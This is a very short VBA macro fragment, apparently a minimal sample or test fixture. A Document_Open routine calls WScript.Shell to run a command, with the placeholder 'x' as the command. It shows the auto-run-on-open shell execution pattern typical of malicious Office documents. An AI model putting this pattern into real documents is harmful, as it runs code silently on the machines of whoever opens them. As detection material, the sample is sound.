Attribute VB_Name = "M"
Sub Document_Open()
CreateObject("WScript.Shell").Run "x"
